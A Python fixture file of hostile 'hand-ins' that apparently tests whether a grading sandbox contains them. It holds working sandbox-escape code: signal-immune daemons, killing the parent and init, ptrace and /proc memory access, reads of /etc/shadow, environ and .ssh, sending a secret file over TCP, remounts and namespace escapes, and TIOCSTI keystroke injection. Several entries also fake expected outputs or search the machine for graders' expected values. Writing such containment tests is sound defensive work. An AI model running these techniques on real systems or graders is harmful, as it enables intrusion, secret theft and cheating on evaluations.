"""Hand-ins that reach out of the sandbox."""

from handIns.hostile.pieces import (
    ALONE,
    ECHO_BINARY,
    ECHO_DIGITS,
    ECHO_OR,
    SPAWN,
    fakeBinary,
    fakeDigits,
    fakeOr,
    gradient,
    join,
    neuron,
)
from handIns.hostile.Trick import Trick

# ---- Reaching out ----------------------------------------------------------------------------

DAEMON = '''
    DAEMON = """
    import os, signal, time
    for number in (signal.SIGHUP, signal.SIGTERM, signal.SIGINT):
        signal.signal(number, signal.SIG_IGN)
    if os.fork():
        os._exit(0)
    os.setsid()
    if os.fork():
        os._exit(0)
    time.sleep(20)
    open("@OUTSIDE@/daemon", "x").close()
    """
'''

TRY = """
    def attempt(what, action):
        try:
            print(what, "DONE", action(), flush=True)
        except Exception as error:
            print(what, "refused", type(error).__name__, flush=True)
"""

# Whether it could be read is told, never what it says; secret.txt alone is the marker's bait.
REACH = [
    Trick(
        "ex02",
        "a daemon, forked twice, that outlives the script",
        fakeOr(SPAWN, DAEMON, "spawn(DAEMON).wait()\npretend()", ECHO_OR),
    ),
    Trick(
        "ex00",
        "a daemon, forked twice, that outlives the worker",
        gradient("spawn(DAEMON).wait()\nos._exit(0)", "import os", SPAWN, DAEMON),
    ),
    # A reader who waits for the end of the output waits for the child.
    Trick(
        "ex03",
        "a child in a session of its own keeps the standard output open",
        fakeBinary(
            SPAWN,
            """
            spawn("import time; time.sleep(30); print('late')", start_new_session=True)
            pretend()
            """,
            ECHO_BINARY,
        ),
    ),
    Trick(
        "ex00",
        "a child inherits the worker's pipe and answers after its death",
        gradient(
            """
            spawn(LATE, close_fds=False, start_new_session=True)
            os._exit(0)
            """,
            "import os",
            SPAWN,
            '''
            for number in range(3, 64):
                try:
                    os.set_inheritable(number, True)
                except OSError:
                    pass

            LATE = r"""
            import os, time
            end = time.monotonic() + 20
            while time.monotonic() < end:
                time.sleep(0.2)
                for number in range(3, 64):
                    try:
                        os.set_blocking(number, False)
                        os.write(number, b'{"number": 4, "answer": 0.5}\\n')
                    except OSError:
                        pass
            """
            ''',
        ),
    ),
    Trick(
        "ex00",
        "kills its parent, its group and all it may",
        gradient(
            """
            self.gradient = 0.5
            if alone():
                for pid in (os.getppid(), 0, 1, -1):
                    try:
                        os.kill(pid, signal.SIGKILL)
                    except OSError:
                        pass
            """,
            "import signal",
            ALONE,
        ),
    ),
    Trick(
        "ex00",
        "traces its parent and looks into its memory",
        gradient(
            """
            self.gradient = 0.5
            if alone():
                attempt("ptrace", lambda: ctypes.CDLL(None).ptrace(16, os.getppid(), 0, 0))
                attempt("detach", lambda: ctypes.CDLL(None).ptrace(17, os.getppid(), 0, 0))
                for pid in range(1, os.getpid()):
                    attempt("memory", lambda: open(f"/proc/{pid}/mem", "r+b").close())
            """,
            "import ctypes",
            ALONE,
            TRY,
        ),
    ),
    Trick(
        "ex02",
        "TCP and UDP to the marker's machine",
        fakeOr(
            TRY,
            """
            import socket

            def tcp(host):
                with socket.create_connection((host, @PORT@), timeout=3) as link:
                    link.sendall(b"@TOKEN@")
                    return link.getsockname()

            def udp(host):
                with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
                    link.sendto(b"@TOKEN@", (host, @PORT@))

            for host in ("127.0.0.1", "localhost", "0.0.0.0", "127.1.2.3"):
                attempt("tcp", lambda: tcp(host))
                attempt("udp", lambda: udp(host))
            pretend()
            """,
            ECHO_OR,
        ),
    ),
    Trick(
        "ex00",
        "TCP from the worker, the secret for a message",
        gradient(
            """
            self.gradient = 0.5
            link = socket.create_connection(("127.0.0.1", @PORT@), timeout=3)
            with link, open("@OUTSIDE@/secret.txt", "rb") as file:
                link.sendall(b"@TOKEN@ " + file.read(1000))
            """,
            "import socket",
        ),
    ),
    Trick(
        "ex02",
        "prints the marker's secret",
        fakeOr(
            TRY,
            """
            import glob
            import os

            paths = ["@OUTSIDE@/secret.txt", "../../../../../../..@OUTSIDE@/secret.txt"]
            paths += glob.glob("/proc/*/root@OUTSIDE@/secret.txt")
            paths += glob.glob("/proc/*/cwd/secret.txt")
            os.symlink("@OUTSIDE@/secret.txt", "secret.png")
            for path in [*paths, "secret.png"]:
                attempt("secret", lambda: open(path).read(1000))
            attempt("outside", lambda: os.listdir("@OUTSIDE@"))
            attempt("handIn", lambda: os.listdir("@HANDIN@"))
            pretend()
            """,
            ECHO_OR,
        ),
    ),
    Trick(
        "ex00",
        "the marker's secret in an error message",
        gradient(
            """
            with open("@OUTSIDE@/secret.txt") as file:
                raise ValueError(file.read(1000))
            """
        ),
    ),
    # An open folder of the marker's would be a way out: openat does not ask where one is.
    Trick(
        "ex01",
        "climbs out through inherited folders",
        {
            "Neuron.py": neuron(
                HEAD=join(TRY, "import os"),
                APPLY="""
                for number in range(64):
                    for up in (".", "..", "../../../.."):
                        place = f"{up}@OUTSIDE@/secret.txt"
                        attempt("openat", lambda: os.read(os.open(place, 0, dir_fd=number), 99))
                """,
            )
        },
    ),
    Trick(
        "ex03",
        "tells whether private places can be read",
        fakeBinary(
            TRY,
            """
            import glob
            import os

            def canRead(path):
                with open(path, "rb") as file:
                    return len(file.read(1))

            def others():
                found = 0
                for path in glob.glob("/proc/[0-9]*/environ"):
                    try:
                        found += canRead(path) if path.split("/")[2] != str(os.getpid()) else 0
                    except OSError:
                        pass
                return found

            attempt("shadow", lambda: canRead("/etc/shadow"))
            for place in ("/root", "/home", "/root/.ssh", os.path.expanduser("~/.ssh")):
                attempt(place, lambda: len(os.listdir(place)))
            attempt("environ", others)
            pretend()
            """,
            ECHO_BINARY,
        ),
    ),
    Trick(
        "ex08",
        "walks the machine for tests, reports and expected values",
        fakeDigits(
            """
            import os
            import time

            end = time.monotonic() + 20
            for folder, folders, files in os.walk("/"):
                folders[:] = [name for name in folders if name not in ("proc", "sys", "usr")]
                for name in files:
                    if name.startswith(("test_ex", "learningScript", "report", "expected")):
                        print("FOUND", os.path.join(folder, name))
                if time.monotonic() > end:
                    break
            pretend(6.9)
            """,
            ECHO_DIGITS,
        ),
    ),
    Trick(
        "ex02",
        "writes into the marker's folder, the hand-in and the installation",
        fakeOr(
            TRY,
            """
            import os
            import sysconfig

            def write(folder):
                path = os.path.join(folder, "hostile-@TOKEN@.txt")
                open(path, "x").close()
                return path

            def link(folder):
                os.symlink(folder, "way")
                return write("way")

            places = ["@OUTSIDE@", "@HANDIN@", "/proc/1/root@OUTSIDE@", "/proc/1/root@HANDIN@"]
            places += [sysconfig.get_path("purelib"), sysconfig.get_path("stdlib")]
            for place in places:
                attempt("write", lambda: write(place))
            attempt("link", lambda: link("@HANDIN@"))
            attempt("hard link", lambda: os.link("@OUTSIDE@/secret.txt", "hard.txt"))
            attempt("hard link out", lambda: os.link("or.ds", "@OUTSIDE@/hard.txt"))
            pretend()
            """,
            ECHO_OR,
        ),
    ),
    Trick(
        "ex00",
        "chmod on the hand-in, and writing in it",
        gradient(
            """
            self.gradient = 0.5
            here = os.path.dirname(os.path.abspath(__file__))
            for place in ("@HANDIN@", here, "/handIn", "/datasets"):
                attempt("chmod", lambda: os.chmod(place, 0o777))
                attempt("write", lambda: open(place + "/hostile.txt", "x").close())
            """,
            "import os",
            TRY,
        ),
    ),
    Trick(
        "ex03",
        "remounts what is read-only, and writes there",
        fakeBinary(
            ALONE,
            TRY,
            """
            import ctypes

            MS_REMOUNT_BIND = 32 | 4096

            def mountPoints():
                with open("/proc/self/mounts") as file:
                    return [line.split()[1] for line in file]

            if alone():
                library = ctypes.CDLL(None, use_errno=True)
                for place in [*mountPoints(), "@HANDIN@", "@OUTSIDE@"]:
                    name = place.encode()
                    print("mount", library.mount(None, name, None, MS_REMOUNT_BIND, None))
                    if not place.startswith(("/proc", "/dev", "/usr", "/sys")):
                        attempt("write", lambda: open(place + "/remounted.txt", "x").close())
            pretend()
            """,
            ECHO_BINARY,
        ),
    ),
    Trick(
        "ex00",
        "a user namespace of its own, with all rights, and a mount in it",
        gradient(
            """
            self.gradient = 0.5
            if alone():
                for flags in (0x10000000, 0x10000000 | 0x20000, 0x20000, 0x40000000):
                    print("unshare", LIBRARY.unshare(flags))
                attempt("map", lambda: open("/proc/self/uid_map", "wb", 0).write(b"0 65534 1"))
                LIBRARY.mount(b"none", b"/tmp", b"tmpfs", 0, None)
                LIBRARY.mount(None, b"/handIn", None, 32 | 4096, None)
                attempt("write", lambda: open("/handIn/hostile.txt", "x").close())
                attempt("become root", lambda: os.setuid(0))
            """,
            "import ctypes\n\nLIBRARY = ctypes.CDLL(None, use_errno=True)",
            ALONE,
            TRY,
        ),
    ),
    Trick(
        "ex02",
        "joins the namespaces of other processes, and changes its root",
        fakeOr(
            ALONE,
            TRY,
            """
            import ctypes
            import glob

            if alone():
                library = ctypes.CDLL(None, use_errno=True)
                for path in glob.glob("/proc/[0-9]*/ns/*"):
                    attempt("join", lambda: library.setns(os.open(path, os.O_RDONLY), 0))
                attempt("chroot", lambda: os.chroot("/proc/1/root"))
                attempt("secret", lambda: open("@OUTSIDE@/secret.txt").read(1000))
            pretend()
            """,
            ECHO_OR,
        ),
    ),
    Trick(
        "ex03",
        "types into the marker's terminal",
        fakeBinary(
            TRY,
            """
            import fcntl
            import os
            import termios

            def typeInto(number):
                for letter in b"# @TOKEN@":
                    fcntl.ioctl(number, termios.TIOCSTI, bytes([letter]))

            for number in (0, 1, 2):
                attempt("type", lambda: typeInto(number))
            attempt("tty", lambda: typeInto(os.open("/dev/tty", os.O_RDWR)))
            attempt("write", lambda: open("/dev/tty", "wb", 0).write(b"@TOKEN@"))
            pretend()
            """,
            ECHO_BINARY,
        ),
    ),
]
